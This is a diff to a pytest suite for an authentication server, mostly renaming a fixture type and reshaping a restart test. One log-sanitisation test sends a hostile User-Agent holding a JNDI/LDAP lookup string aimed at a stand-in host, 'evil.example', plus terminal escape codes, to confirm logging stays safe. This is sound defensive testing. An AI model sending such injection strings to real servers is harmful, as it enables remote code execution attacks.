@@ -71,8 +71,11 @@ class Server:
         self.process.wait()
 
 
+Start = Callable[..., Server]
+
+
 @pytest.fixture
-def start(tmp_path: Path) -> Iterator[Callable[..., Server]]:
+def start(tmp_path: Path) -> Iterator[Start]:
     """Starts servers in one directory; none outlives the test."""
     with ExitStack() as stack:
 
@@ -95,7 +98,7 @@ def until(is_true: Callable[[], Any], *, seconds: float = 30) -> None:
         time.sleep(0.02)
 
 
-def test_it_starts_with_nothing_and_answers(start: Callable[..., Server], tmp_path: Path):
+def test_it_starts_with_nothing_and_answers(start: Start, tmp_path: Path):
     server = start()
     token = server.sign_in()
     assert server.is_active(token)
@@ -105,20 +108,17 @@ def test_it_starts_with_nothing_and_answers(start: Callable[..., Server], tmp_pa
     assert server.end() == 0
 
 
-def test_a_second_start_on_the_same_files_keeps_sessions_valid(start: Callable[..., Server]):
+def test_a_start_after_a_kill_keeps_what_was_answered(start: Start):
     first = start()
     kept, ended = first.sign_in(), first.sign_in()
     assert first.http.post("/api/auth/signout", headers=bearer(ended)).status_code == 204
-    assert first.end() == 0
+    first.close()
     second = start()
     assert [second.is_active(token) for token in (kept, ended)] == [True, False]
-    second.process.kill()
-    second.process.wait()
-    assert start().is_active(kept)
 
 
 @pytest.mark.parametrize("by", [signal.SIGINT, signal.SIGTERM])
-def test_a_signal_under_load_finishes_what_has_begun_and_loses_nothing(start: Callable[..., Server], by: signal.Signals):
+def test_a_signal_under_load_finishes_what_has_begun_and_loses_nothing(start: Start, by: signal.Signals):
     server = start()
     acknowledged: list[str] = []
     broken: list[str] = []
@@ -168,11 +168,11 @@ class Request:
             return file.read()
 
 
-def test_a_port_that_is_taken_is_said_and_nothing_is_left_running(start: Callable[..., Server], tmp_path: Path):
+def test_a_port_that_is_taken_is_said_and_nothing_is_left_running(start: Start, tmp_path: Path):
     first = start()
     second = Server(tmp_path, LEDGER_PORT=str(first.port))
     assert second.process.wait(30) != 0
-    assert "address already in use" in second.log_text
+    assert "Address already in use" in second.log_text
     assert not psutil.pid_exists(second.process.pid)
 
 
@@ -183,7 +183,7 @@ def test_a_setting_that_cannot_be_creates_nothing(tmp_path: Path):
     assert {path.name for path in tmp_path.iterdir()} == {"server.log", "out.txt"}
 
 
-def test_a_forwarded_address_is_believed_from_a_trusted_proxy_only(start: Callable[..., Server]):
+def test_a_forwarded_address_is_believed_from_a_trusted_proxy_only(start: Start):
     forwarded = {"X-Forwarded-For": "203.0.113.66, 198.51.100.7", "X-Forwarded-Proto": "https", "Forwarded": "for=x"}
     direct = start()
     direct.http.get("/healthz", headers=forwarded)
@@ -196,7 +196,7 @@ def test_a_forwarded_address_is_believed_from_a_trusted_proxy_only(start: Callab
     assert [line["client"] for line in behind_a_proxy.requests] == ["198.51.100.7", "127.0.0.1"]
 
 
-def test_whatever_is_sent_each_line_of_the_log_is_one_json_object(start: Callable[..., Server]):
+def test_whatever_is_sent_each_line_of_the_log_is_one_json_object(start: Start):
     server = start()
     token = server.sign_in(user_agent="\r\n\x1b[31m\u2028${jndi:ldap://evil.example}" + "x" * 7000)
     hostile = {**bearer(token), "User-Agent": "\x1b[31m${jndi}", "X-Request-Id": "\x1b[2J"}
@@ -212,10 +212,14 @@ def test_whatever_is_sent_each_line_of_the_log_is_one_json_object(start: Callabl
     assert token not in server.log_text
 
 
-def test_the_demo_prints_credentials_that_work(start: Callable[..., Server], tmp_path: Path):
+def test_the_demo_prints_credentials_that_work(start: Start, tmp_path: Path):
     server = start("--demo")
     printed = (tmp_path / "out.txt").read_text()
     alice, key = re.findall(r"export [A-Z]+='Authorization: (Bearer \S+)'", printed)
     sessions = server.http.get("/api/sessions", headers={"Authorization": alice}).json()["sessions"]
-    assert sorted(session["device"] for session in sessions) == ["Chrome on macOS", "Firefox on Windows", "Safari on iPhone"]
+    assert sorted(session["device"] for session in sessions) == [
+        "Chrome on macOS",
+        "Firefox on Windows",
+        "Safari on iPhone",
+    ]
     assert server.http.get("/api/users/bob@example.com/sessions", headers={"Authorization": key}).status_code == 200
